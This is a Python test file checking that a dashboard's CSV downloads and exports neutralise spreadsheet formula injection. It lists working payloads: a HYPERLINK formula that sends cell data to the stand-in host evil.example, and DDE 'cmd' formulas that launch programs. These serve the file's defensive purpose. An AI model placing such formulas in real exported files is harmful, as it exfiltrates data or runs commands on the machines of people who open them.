"""No CSV cell can run as a spreadsheet formula (OWASP, "CSV injection"), on both paths a CSV leaves by: the
dashboard's Download CSV and the static export. Real negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil

import pytest

from app import main
from callbacks import data_view
from callbacks.context import AppData
from charts.registry import NAMES
from data import DEFAULT_DIR, csvsafe, load_dataset

from ..hostile import hostile_data

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_cs001_a_formula_gets_a_leading_quote(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-1.76", "-12.81", "+2.5", "-0.5e3", "42", "", "Bitcoin", "−12.81%", "'=x"])
def test_cs002_numbers_and_plain_text_stay_as_they_are(value):
    assert csvsafe.cell(value) == value


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _unsafe(cells) -> list[str]:
    return [c for c in cells if c.startswith(csvsafe.TRIGGERS) and not csvsafe._NUMBER.match(c)]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """The shipped data with a formula before every label, note, quote, date note and ticker."""
    target = tmp_path_factory.mktemp("poisoned")
    source = tmp_path_factory.mktemp("source")
    for name in ("sources.yaml", "vocabulary.yaml"):
        shutil.copy(DEFAULT_DIR / name, source / name)
    shutil.copytree(DEFAULT_DIR / "episodes", source / "episodes")
    return hostile_data(source, target, text='=HYPERLINK("http://evil.example","x")+')


def test_cs003_the_dashboards_download_is_neutralised(poisoned):
    data = AppData.of(load_dataset(poisoned, NAMES))
    seen = 0
    for name in NAMES:
        sent = data_view.download(data, name, {"episode": "feb-2026-crash"})
        cells = _cells(sent["content"])
        assert not _unsafe(cells), (name, _unsafe(cells)[:3])
        seen += sum(c.startswith("'=HYPERLINK") for c in cells)
        if name == "drawdowns":
            assert "-12.81" in cells  # the value column keeps the real negative number
    assert seen > 50  # the poison reached the CSVs, and was defused


def test_cs004_the_exports_csv_is_neutralised(poisoned, tmp_path):
    out = tmp_path / "out"
    assert (
        main(["export", "--data", str(poisoned), "--out", str(out), "--no-images", "--episode", "feb-2026-crash"]) == 0
    )
    files = sorted(out.glob("*.csv"))
    assert len(files) == len(NAMES)
    cells = [c for f in files for c in _cells(f.read_text(encoding="utf-8"))]
    assert not _unsafe(cells) and any(c.startswith("'=HYPERLINK") for c in cells)
